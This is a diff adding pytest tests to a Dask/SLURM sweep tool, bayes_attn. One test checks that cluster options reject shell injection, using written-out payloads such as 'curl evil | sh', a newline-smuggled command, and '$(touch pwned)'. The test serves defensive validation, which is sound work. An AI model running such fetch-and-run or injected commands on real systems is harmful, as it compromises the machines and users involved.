@@ -9,6 +9,7 @@ import this test module: it is registered with cloudpickle to travel by value.
 import logging
 import os
 import signal
+import socket
 import subprocess
 import sys
 import time
@@ -29,8 +30,11 @@ from bayes_attn.sweep.executors import (  # noqa: E402
     job_seed,
     run_jobs,
 )
+from bayes_attn import cli  # noqa: E402
+from conftest import TINY, forbid_calls, one_line, spec_file  # noqa: E402
 
 BASE_SEED = 20240601
+THEORY_ONLY_N3 = TINY | {"compare": TINY["compare"] | {"widths": [3], "sample_widths": []}}
 cloudpickle.register_pickle_by_value(sys.modules[__name__])
 
 
@@ -339,6 +343,49 @@ def test_jobqueue_job_script_declares_gpu_resources_and_environment(deadline):
     assert "--resources GPU=1" in script and "--gres=gpu:1" in script and "#SBATCH -p gpu" in script
     assert "export JAX_COMPILATION_CACHE_DIR='/scratch/jax cache'" in script
     assert "--cpus-per-task=4" in script and "--nthreads 1" in script
+
+
+def test_cluster_options_cannot_inject_shell_commands():
+    pytest.importorskip("dask_jobqueue")
+    with pytest.raises(ValueError, match="shell code"):
+        DaskJobqueue("SLURMCluster", {"job_script_prologue": ["curl evil | sh"]}, workers=1)
+    with pytest.raises(ValueError, match="line break"):
+        DaskJobqueue("SLURMCluster", {"queue": "normal\ncurl evil | sh"}, workers=1)
+    with pytest.raises(ValueError, match="variable names"):
+        DaskJobqueue("SLURMCluster", {}, workers=1, env={"A=1; curl evil | sh; B": "x"})
+    with pytest.raises(ValueError, match="unknown SLURMCluster option"):
+        DaskJobqueue("SLURMCluster", {"not_an_option": 1}, workers=1)
+    ex = DaskJobqueue("SLURMCluster", {"queue": "normal; touch pwned", "account": "$(touch pwned)", "cores": 1,
+                                       "memory": "1GB"}, workers=1)
+    with ex.make_cluster() as cluster:
+        script = cluster.job_script()
+    assert "'normal; touch pwned'" in script and "'$(touch pwned)'" in script
+
+
+def test_cluster_without_its_submit_command_fails_before_computing(tmp_path, capsys, monkeypatch):
+    pytest.importorskip("dask_jobqueue")
+    from bayes_attn.sweep import table
+
+    monkeypatch.setenv("PATH", str(tmp_path))  # no sbatch here
+    forbid_calls(monkeypatch, (table, "sweep"))
+    data = THEORY_ONLY_N3 | {"cluster": {"class": "SLURMCluster", "workers": 1, "cores": 1, "memory": "1GB"}}
+    assert cli.main(["sweep", str(spec_file(tmp_path, data)), "--out", str(tmp_path / "s"), "--executor",
+                     "dask"]) == cli.EXIT_USAGE
+    assert "'sbatch', which is not on PATH" in one_line(capsys.readouterr().err)
+
+
+def test_unreachable_scheduler_fails_fast(tmp_path, capsys, monkeypatch):
+    from bayes_attn.sweep import table
+
+    forbid_calls(monkeypatch, (table, "sweep"))
+    with socket.socket() as s:  # a port nobody listens on
+        s.bind(("127.0.0.1", 0))
+        port = s.getsockname()[1]
+    t0 = time.perf_counter()
+    assert cli.main(["sweep", str(spec_file(tmp_path, THEORY_ONLY_N3)), "--out", str(tmp_path / "s"), "--executor",
+                     "dask", "--scheduler", f"tcp://127.0.0.1:{port}"]) == cli.EXIT_USAGE
+    assert time.perf_counter() - t0 < 10
+    assert "cannot be reached" in one_line(capsys.readouterr().err)
 
 
 def test_dask_executor_without_dask_installed_fails_before_any_job(monkeypatch):
